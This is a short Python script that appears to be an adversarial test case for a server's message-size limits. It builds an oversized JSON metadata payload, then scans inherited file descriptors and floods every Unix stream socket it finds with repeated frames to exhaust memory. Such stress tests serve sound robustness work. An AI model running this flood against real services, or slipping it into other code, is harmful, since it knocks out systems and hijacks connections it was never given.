# attack: make the server hold much more than the limit of displays: all of it in metadata, as JSON that grows when parsed
# must end: completed or crashed or timed_out
# limits: wall=10s
import json, os, socket, struct
zeros = "[" + "0," * 2_000_000 + "0]"
header = ('{"role":"display","id":null,"data":{},"binary":[],"metadata":{"a":' + zeros + "}}").encode()
body = struct.pack(">I", len(header)) + header
frame = struct.pack(">IB", len(body) + 1, 0x82) + body
for fd in range(3, 1024):
    try:
        link = socket.socket(fileno=os.dup(fd))
        if link.family == socket.AF_UNIX and link.type == socket.SOCK_STREAM:
            for _ in range(8):
                link.sendall(frame)
    except OSError:
        continue
print("held")
